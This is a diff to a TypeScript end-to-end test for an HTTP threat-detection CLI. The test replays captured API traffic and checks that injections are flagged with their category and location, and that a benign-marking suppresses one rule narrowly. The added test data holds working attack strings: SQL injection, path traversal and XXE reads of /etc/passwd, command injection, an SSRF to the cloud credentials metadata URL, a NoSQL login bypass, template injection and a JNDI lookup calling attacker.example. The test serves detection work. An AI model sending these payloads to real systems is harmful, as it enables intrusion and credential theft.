@@ -1,5 +1,5 @@
-// Request threats end to end: a capture with injections in a query parameter, a JSON leaf, a
-// header and a cookie among benign API calls, replayed through the CLI; each attack is reported
+// Request threats end to end: a capture with an injection of every category in query parameters,
+// JSON leaves, headers, a cookie and an XML body among benign API calls, replayed through the CLI; each attack is reported
 // with its category and the part it sits in, benign calls raise nothing, and marking one finding
 // benign suppresses that rule for that endpoint and parameter only.
 import { execFileSync } from 'node:child_process';
@@ -20,6 +20,7 @@ interface Spec {
   target: string;
   headers?: [string, string][];
   json?: unknown;
+  xml?: string;
 }
 
 const API = 'api.shop.example';
@@ -34,6 +35,13 @@ const REQUESTS: Spec[] = [
   { method: 'GET', target: '/api/v1/products?page=3', headers: [['User-Agent', '<script>alert(1)</script>']] },
   { method: 'GET', target: '/api/v1/cart', headers: [['Cookie', 'theme=dark; pref=%27%20OR%20%271%27%3D%271']] },
   { method: 'GET', target: '/api/v1/products?category=%2527%2520OR%25201%253D1--' },
+  { method: 'GET', target: '/api/v1/files?name=..%2F..%2F..%2Fetc%2Fpasswd' },
+  { method: 'POST', target: '/api/v1/diagnostics', json: { host: '8.8.8.8 && whoami' } },
+  { method: 'POST', target: '/api/v1/webhooks', json: { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' } },
+  { method: 'POST', target: '/api/v1/auth/login', json: { user: 'admin', password: { $ne: null } } },
+  { method: 'POST', target: '/api/v1/greetings', json: { text: '{{ self.__init__.__globals__.__builtins__ }}' } },
+  { method: 'GET', target: '/api/v1/status', headers: [['X-Api-Version', '${jndi:ldap://attacker.example/a}']] },
+  { method: 'POST', target: '/api/v1/import', xml: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' },
   // Benign again.
   { method: 'PUT', target: '/api/v1/cart/items/7', json: { qty: 3, gift: true, message: 'Happy birthday <3' } },
   { method: 'GET', target: '/api/v1/products?q=select+a+size&page=1', headers: [['Referer', 'https://shop.example/search?q=red+shoes']] },
@@ -60,6 +68,10 @@ function writeCapture(file: string): void {
       if (r.json !== undefined) {
         body = Buffer.from(JSON.stringify(r.json));
         headers.push(['Content-Type', 'application/json']);
+      }
+      if (r.xml !== undefined) {
+        body = Buffer.from(r.xml);
+        headers.push(['Content-Type', 'application/xml']);
       }
       s.send(true, httpRequest({ method: r.method, target: r.target, host: '${API}', headers, body }).bytes);
       s.wait(5_000_000);
@@ -99,11 +111,20 @@ it('reports each injection with its category and the part it sits in, and nothin
   expect(r.code).toBe(0);
   const found = threatsIn(store);
   expect(found.map(described).sort()).toEqual([
+    'command_injection /api/v1/diagnostics json:$.host',
+    'jndi_injection /api/v1/status header:x-api-version',
+    'nosql_injection /api/v1/auth/login json:$.password.$ne',
+    'path_traversal /api/v1/files query:name',
+    // The external entity reads /etc/passwd through a file: URI: a traversal target as well.
+    'path_traversal /api/v1/import xml:document',
     'sqli /api/v1/cart cookie:pref',
     'sqli /api/v1/products query:category',
     'sqli /api/v1/products query:q',
+    'ssrf /api/v1/webhooks json:$.url',
+    'template_injection /api/v1/greetings json:$.text',
     'xss /api/v1/orders json:$.items[0].note',
     'xss /api/v1/products header:user-agent',
+    'xxe /api/v1/import xml:document',
   ]);
   const cookie = found.find((f) => f.sidetap.location?.part === 'cookie')!;
   expect(cookie.sidetap.evidence.observed).toBe("cookie pref: ' OR '1'='1");
@@ -115,7 +136,8 @@ it('reports each injection with its category and the part it sits in, and nothin
 it('marks a finding benign for that endpoint and parameter only', async () => {
   const store = join(work, 'feedback');
   await run(['replay', capture, '--store', store]);
-  const target = threatsIn(store).find((f) => f.sidetap.location?.name === 'q')!;
+  const before = threatsIn(store);
+  const target = before.find((f) => f.sidetap.location?.name === 'q')!;
   const r = await run(['models', 'feedback', target.event.id, '--benign', '--store', store]);
   expect(r.code).toBe(0);
   expect(r.stdout).toContain(`added a suppression of ${target.rule.id} for /api/v1/products query:q`);
@@ -125,5 +147,5 @@ it('marks a finding benign for that endpoint and parameter only', async () => {
   expect(after).not.toContain('sqli /api/v1/products query:q');
   // The same rule on the same endpoint in another parameter is still reported.
   expect(after).toContain('sqli /api/v1/products query:category');
-  expect(after).toHaveLength(4);
+  expect(after).toHaveLength(before.length - 1);
 });
